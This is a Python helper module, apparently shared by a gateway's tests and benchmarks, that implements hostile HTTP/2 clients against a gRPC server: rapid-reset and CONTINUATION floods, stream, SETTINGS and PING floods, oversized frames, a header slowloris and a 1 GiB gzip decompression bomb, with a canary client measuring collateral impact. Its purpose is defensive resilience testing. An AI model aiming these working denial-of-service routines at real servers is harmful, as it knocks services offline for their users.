"""Hostile HTTP/2 clients, shared by tests/gateway/test_h2_hostile.py and bench/h2_attacks.py.

Each attack runs on its own connection through :class:`h2peer.Peer`, is bounded by a frame count and a
wall-clock deadline, and returns an :class:`AttackResult`: whether the server cut the attacker off
(a GOAWAY with an error code, or a closed connection), how, and after how many frames.

:class:`Canary` is the innocent bystander: a real grpc-python channel on another connection making
small health-check calls throughout, counting errors and recording latencies.
"""

from __future__ import annotations

import struct
import threading
import time
import zlib
from collections.abc import Callable
from dataclasses import dataclass, field

import grpc
from grpc_health.v1 import health_pb2, health_pb2_grpc
from h2peer import CODES, EMPTY_MESSAGE, Peer, name_of, raw_frame, request_headers
from hyperframe.frame import DataFrame, PingFrame, SettingsFrame

DATA, HEADERS, RST_STREAM, SETTINGS, PING, CONTINUATION = 0, 1, 3, 4, 6, 9
END_STREAM, END_HEADERS = 0x1, 0x4
MAX_FRAME_FIELD = (1 << 24) - 1  # the largest length a frame header can carry
INFERENCE = b"/cuvis_ai.v1.CuvisAIService/Inference"
GIB = 1 << 30


@dataclass
class AttackResult:
    name: str
    cut_off: bool = False  # GOAWAY with an error code, or the connection closed, before the attack ended
    goaway: int | None = None
    closed: bool = False
    reset: bool = False  # closed by a TCP reset (which discards an unread GOAWAY)
    frames_sent: int = 0  # frames the attacker wrote to its socket before it saw the cut-off (or in all)
    # Frames the server shows it handled: acks of a SETTINGS/PING flood, streams below the GOAWAY's
    # last stream id; None where nothing tells. (Frames written may sit unread in socket buffers.)
    handled: int | None = None
    seconds: float = 0.0
    note: str = ""  # attack-specific findings (streams refused, the call's status, ...)
    detail: str = ""  # the peer's summary of what came back, for failure messages
    extra: dict[str, int | None] = field(default_factory=dict)
    call: str = ""  # for an attack answered per call (the bomb): how the call ended

    @property
    def how(self) -> str:
        if self.call and self.goaway is None and not self.closed:
            return self.call
        if self.goaway is not None:
            return f"GOAWAY {name_of(self.goaway)}" + (" + close" if self.closed else " (still open)")
        if self.closed:
            return "TCP reset, no GOAWAY read" if self.reset else "closed, no GOAWAY"
        return "not cut off"


def _cut(peer: Peer) -> bool:
    o = peer.outcome
    return o.closed or (o.goaway is not None and o.goaway != CODES["NO_ERROR"])


def _result(name: str, peer: Peer, t0: float, frames: int, note: str = "") -> AttackResult:
    o = peer.outcome
    if o.goaway is not None and not o.closed:
        peer.read_until(lambda o: False, 3.0)  # a GOAWAY for an error must be followed by the close
    return AttackResult(
        name,
        cut_off=_cut(peer),
        goaway=o.goaway,
        closed=o.closed,
        reset=o.reset,
        frames_sent=frames,
        seconds=time.monotonic() - t0,
        note=note,
        detail=o.summary(),
    )


def _flood(
    peer: Peer,
    batch: Callable[[int], list[bytes]],
    total: int,
    per_batch: int,
    deadline: float,
    read: bool = True,
) -> int:
    """Send ``total`` frames in batches, reading between batches (unless ``read`` is false); stop at a
    cut-off, a server that stopped reading, or the deadline."""
    sent = 0
    while sent < total and time.monotonic() < deadline and not _cut(peer):
        frames = batch(min(per_batch, total - sent))
        if not peer.send(b"".join(frames)):
            break
        sent += len(frames)
        if read:
            peer.drain()
    return sent


def _finish(peer: Peer) -> None:
    """After the flood: give the server a moment to answer what it read."""
    if not _cut(peer):
        peer.send(PingFrame(0, b"finished"))
        peer.read_until(lambda o: _cut(peer) or b"finished" in o.ping_acks, 5.0)


def rapid_reset(address: str, streams: int = 20000, seconds: float = 8.0) -> AttackResult:
    """CVE-2023-44487: HEADERS then RST_STREAM(CANCEL), stream after stream."""
    t0 = time.monotonic()
    with Peer(address) as peer:
        peer.handshake()
        first = peer.encoder.encode(request_headers())
        again = peer.encoder.encode(request_headers())  # all indexed now: the same bytes every time
        sid = [1]

        def batch(n: int) -> list[bytes]:
            out = []
            for _ in range(n // 2 or 1):
                s = sid[0]
                sid[0] += 2
                out.append(raw_frame(HEADERS, END_HEADERS, s, first if s == 1 else again))
                out.append(raw_frame(RST_STREAM, 0, s, struct.pack(">I", CODES["CANCEL"])))
            return out

        sent = _flood(peer, batch, 2 * streams, 400, t0 + seconds)
        _finish(peer)
        note = f"{sent // 2} streams opened and reset"
        last = peer.outcome.goaway_last_stream
        if last is not None:
            note += f"; GOAWAY last stream {last}"
        res = _result("rapid reset", peer, t0, sent, note)
        res.handled = (last + 1) // 2 if last is not None and res.cut_off else None
        return res


def stream_flood(address: str, streams: int = 3000, seconds: float = 8.0) -> AttackResult:
    """Many streams at once (requests never finished): past MAX_CONCURRENT_STREAMS they must be refused."""
    t0 = time.monotonic()
    with Peer(address) as peer:
        peer.handshake()
        first = peer.encoder.encode(request_headers())
        again = peer.encoder.encode(request_headers())
        sid = [1]

        def batch(n: int) -> list[bytes]:
            out = []
            for _ in range(n):
                out.append(raw_frame(HEADERS, END_HEADERS, sid[0], first if sid[0] == 1 else again))
                sid[0] += 2
            return out

        sent = _flood(peer, batch, streams, 100, t0 + seconds)
        _finish(peer)
        o = peer.outcome
        refused = sum(1 for c in o.resets.values() if c in (CODES["REFUSED_STREAM"], CODES["PROTOCOL_ERROR"]))
        limit = o.settings.get(0x3)
        accepted = sent - len(o.resets)
        if o.goaway_last_stream is not None:  # streams above the GOAWAY's last id were never processed
            accepted = min(
                accepted,
                (o.goaway_last_stream + 1) // 2 - sum(1 for s in o.resets if s <= o.goaway_last_stream),
            )
        res = _result(
            "stream flood",
            peer,
            t0,
            sent,
            f"{sent} streams sent, {refused} refused, {accepted} or fewer accepted (limit {limit})",
        )
        res.extra = {"sent": sent, "refused": refused, "accepted": accepted, "limit": limit}
        res.handled = accepted + refused
        return res


def continuation_flood(address: str, frames: int = 2_000_000, seconds: float = 8.0) -> AttackResult:
    """CVE-2024-27316 style: a header block that never ends, carried on empty CONTINUATION frames."""
    t0 = time.monotonic()
    with Peer(address) as peer:
        peer.handshake()
        block = peer.encoder.encode(request_headers())
        peer.send(raw_frame(HEADERS, 0, 1, block[:4]))
        empty = raw_frame(CONTINUATION, 0, 1)
        sent = _flood(peer, lambda n: [empty] * n, frames, 20000, t0 + seconds)
        return _result("CONTINUATION flood", peer, t0, sent + 1, f"{sent} empty CONTINUATION frames")


def settings_flood(address: str, frames: int = 200_000, seconds: float = 8.0) -> AttackResult:
    t0 = time.monotonic()
    with Peer(address) as peer:
        peer.handshake()
        frame = SettingsFrame(0, settings={0x4: 65535}).serialize()
        sent = _flood(peer, lambda n: [frame] * n, frames, 5000, t0 + seconds)
        _finish(peer)
        acked = peer.outcome.settings_acks - 1  # less the ack of the handshake's SETTINGS
        res = _result("SETTINGS flood", peer, t0, sent, f"{sent} SETTINGS frames written, {acked} acked")
        res.handled = acked
        return res


def ping_flood(address: str, frames: int = 200_000, seconds: float = 8.0) -> AttackResult:
    t0 = time.monotonic()
    with Peer(address) as peer:
        peer.handshake()
        frame = PingFrame(0, b"pingpong").serialize()
        sent = _flood(peer, lambda n: [frame] * n, frames, 5000, t0 + seconds)
        _finish(peer)
        acked = peer.outcome.ping_acks.count(b"pingpong")
        res = _result("PING flood", peer, t0, sent, f"{sent} PING frames written, {acked} acked")
        res.handled = acked
        return res


def unread_ping_flood(address: str, frames: int = 400_000, seconds: float = 8.0) -> AttackResult:
    """PINGs from a client that never reads the acks: they must not pile up in the server."""
    t0 = time.monotonic()
    with Peer(address, timeout=2.0, receive_buffer=4096) as peer:
        peer.handshake()
        frame = PingFrame(0, b"noreader").serialize()
        sent = _flood(peer, lambda n: [frame] * n, frames, 5000, t0 + seconds, read=False)
        # Only now read: the acks the server got out, then (if it gave up on us) its close.
        peer.read_until(lambda o: False, 3.0)
        o = peer.outcome
        acked = o.ping_acks.count(b"noreader")
        stalled = " (the server stopped reading)" if o.stalled else ""
        res = _result(
            "PING flood, acks never read", peer, t0, sent, f"{sent} PINGs written{stalled}, {acked} acks read"
        )
        res.handled = acked
        return res


def oversized_frame(address: str, seconds: float = 8.0) -> AttackResult:
    """A DATA frame of 2^24-1 bytes: more than any sane SETTINGS_MAX_FRAME_SIZE."""
    t0 = time.monotonic()
    with Peer(address) as peer:
        peer.handshake()
        advertised = peer.outcome.settings.get(0x5, 16384)
        peer.send(peer.headers_frame(1, request_headers()))
        chunk = bytes(1 << 20)
        sent_bytes = 0
        peer.send(raw_frame(DATA, 0, 1, length=MAX_FRAME_FIELD))
        while sent_bytes < MAX_FRAME_FIELD and time.monotonic() < t0 + seconds and not _cut(peer):
            n = min(len(chunk), MAX_FRAME_FIELD - sent_bytes)
            if not peer.send(chunk[:n]):
                break
            sent_bytes += n
            peer.drain()
        _finish(peer)
        res = _result(
            "oversized frame",
            peer,
            t0,
            2,
            f"advertised SETTINGS_MAX_FRAME_SIZE {advertised}; {sent_bytes >> 10} KiB of the payload sent",
        )
        res.extra = {"advertised": advertised}
        return res


def stream_id_reuse(address: str) -> AttackResult:
    """A whole call on stream 1, then a new HEADERS on stream 1 again."""
    t0 = time.monotonic()
    with Peer(address) as peer:
        peer.handshake()
        peer.request(1)
        peer.read_until(lambda o: 1 in o.ended or 1 in o.resets or o.closed, 10.0)
        peer.request(1)
        peer.settle(lambda o: _cut(peer), timeout=5.0)
        return _result("stream id reuse", peer, t0, 4)


# ---------------------------------------------------------------------------------------------------
# the compression bomb

GZIP_HEADER = b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x00\x03"  # RFC 1952: deflate, no name, mtime 0, Unix


def _varint(n: int) -> bytes:
    out = bytearray()
    while n >= 0x80:
        out.append((n & 0x7F) | 0x80)
        n >>= 7
    return bytes([*out, n])


def gzip_bomb(inflated: int = GIB) -> bytes:
    """About 1 MB of gzip that inflates to an ``InferenceRequest`` of ``inflated`` bytes.

    The message is a field unknown to the schema (number 9999, bytes) holding ``inflated`` zero bytes,
    then ``session_id`` = "x": a reader looking for the session id has to inflate all of it. Built in
    well under a second: after a full flush the compressor starts afresh, so 1 MiB of zeros compresses
    to the same bytes every time, and the 1 GiB stream is that piece repeated; the CRC-32 and length in
    the trailer are computed over the real inflated content, so any inflater accepts it.
    """
    zeros = bytes(1 << 20)
    head = _varint((9999 << 3) | 2) + _varint(inflated)
    tail = b"\x0a\x01x"
    d = zlib.compressobj(9, zlib.DEFLATED, -15)
    out = [GZIP_HEADER, d.compress(head), d.flush(zlib.Z_FULL_FLUSH)]
    unit = d.compress(zeros) + d.flush(zlib.Z_FULL_FLUSH)
    full, rest = divmod(inflated, len(zeros))
    out.append(unit * full)
    out.append(d.compress(zeros[:rest] + tail) + d.flush(zlib.Z_FINISH))
    crc = zlib.crc32(head)
    for _ in range(full):
        crc = zlib.crc32(zeros, crc)
    crc = zlib.crc32(zeros[:rest] + tail, crc)
    out.append(struct.pack("<II", crc, (len(head) + inflated + len(tail)) & 0xFFFFFFFF))
    return b"".join(out)


def compression_bomb(address: str, bomb: bytes, seconds: float = 20.0) -> AttackResult:
    """A gzip-compressed gRPC message (compressed flag set, grpc-encoding: gzip) that inflates to 1 GiB."""
    t0 = time.monotonic()
    with Peer(address) as peer:
        peer.handshake()
        o = peer.outcome
        frame_max = o.settings.get(0x5, 16384)
        headers = request_headers(
            INFERENCE, [(b"grpc-encoding", b"gzip"), (b"grpc-accept-encoding", b"gzip")]
        )
        peer.send(peer.headers_frame(1, headers))
        body = b"\x01" + struct.pack(">I", len(bomb)) + bomb
        # Flow control: the peer may send what the server's windows allow (RFC 9113 section 6.9).
        sent = 0
        while sent < len(body) and time.monotonic() < t0 + seconds and not _cut(peer) and 1 not in o.resets:
            stream_window = o.settings.get(0x4, 65535) + o.window_updates.get(1, 0) - sent
            conn_window = 65535 + o.window_updates.get(0, 0) - sent
            n = min(frame_max, stream_window, conn_window, len(body) - sent)
            if n <= 0:
                peer.poll(0.2)
                continue
            last = sent + n == len(body)
            if not peer.send(DataFrame(1, body[sent : sent + n], flags=["END_STREAM"] if last else [])):
                break
            sent += n
            peer.drain()
        left = max(t0 + seconds - time.monotonic(), 1.0)
        peer.read_until(lambda o: 1 in o.ended or 1 in o.resets or _cut(peer), left)
        status = o.grpc_status(1)
        res = _result(
            "gzip bomb (1 MB -> 1 GiB)",
            peer,
            t0,
            peer.frames_sent,
            f"call ended: grpc-status {status}, RST {name_of(o.resets.get(1))}, {sent >> 10} KiB sent",
        )
        res.extra = {"grpc_status": status, "reset": o.resets.get(1)}
        res.call = f"call ended: grpc-status {status}" if status is not None else "call not answered"
        # The defence here is the call's refusal, not a cut-off: the attacker's call fails cleanly.
        res.cut_off = res.cut_off or status not in (None, 0) or 1 in o.resets
        return res


def header_timeout(address: str, wait: float = 15.0) -> AttackResult:
    """A header block started and never finished (slowloris on headers)."""
    t0 = time.monotonic()
    with Peer(address) as peer:
        peer.handshake()
        block = peer.encoder.encode(request_headers())
        peer.send(raw_frame(HEADERS, 0, 1, block[:4]))
        peer.read_until(lambda o: _cut(peer), wait)
        return _result("unfinished header block", peer, t0, 2)


def empty_message_call(address: str) -> int | None:
    """grpc-status of one health check over a raw peer (a sanity check of the path)."""
    with Peer(address) as peer:
        peer.handshake()
        peer.send(peer.headers_frame(1, request_headers()), DataFrame(1, EMPTY_MESSAGE, flags=["END_STREAM"]))
        peer.read_until(lambda o: 1 in o.ended, 10.0)
        return peer.outcome.grpc_status(1)


# ---------------------------------------------------------------------------------------------------
# the canary


class Canary:
    """Small health-check calls on their own grpc channel, in a thread, for as long as it runs."""

    def __init__(self, address: str, interval: float = 0.02, deadline: float = 5.0) -> None:
        self.channel = grpc.insecure_channel(address)
        grpc.channel_ready_future(self.channel).result(timeout=30)
        self.stub = health_pb2_grpc.HealthStub(self.channel)
        self.interval = interval
        self.deadline = deadline
        self.latencies: list[float] = []
        self.errors: list[str] = []
        # (start on the monotonic clock, latency in seconds or None for an error): lets a caller judge
        # the calls that began during an attack, however long they then took.
        self.calls: list[tuple[float, float | None]] = []
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._run, daemon=True)

    def _run(self) -> None:
        while not self._stop.is_set():
            start, t = time.monotonic(), time.perf_counter()
            try:
                self.stub.Check(health_pb2.HealthCheckRequest(), timeout=self.deadline)
                self.latencies.append(time.perf_counter() - t)
                self.calls.append((start, self.latencies[-1]))
            except grpc.RpcError as exc:
                self.errors.append(f"{exc.code().name}: {exc.details()}")
                self.calls.append((start, None))
            self._stop.wait(self.interval)

    def __enter__(self) -> Canary:
        self._thread.start()
        return self

    def __exit__(self, *exc: object) -> None:
        self._stop.set()
        self._thread.join(timeout=self.deadline + 5)
        self.channel.close()

    def started_between(self, t0: float, t1: float, wait: float = 10.0) -> list[tuple[float, float | None]]:
        """Calls started in [t0, t1], once the last of them has ended (at most ``wait`` s more)."""
        deadline = time.monotonic() + wait
        while time.monotonic() < deadline and not any(start > t1 for start, _ in self.calls):
            time.sleep(0.02)
        return [(start, latency) for start, latency in self.calls if t0 <= start <= t1]
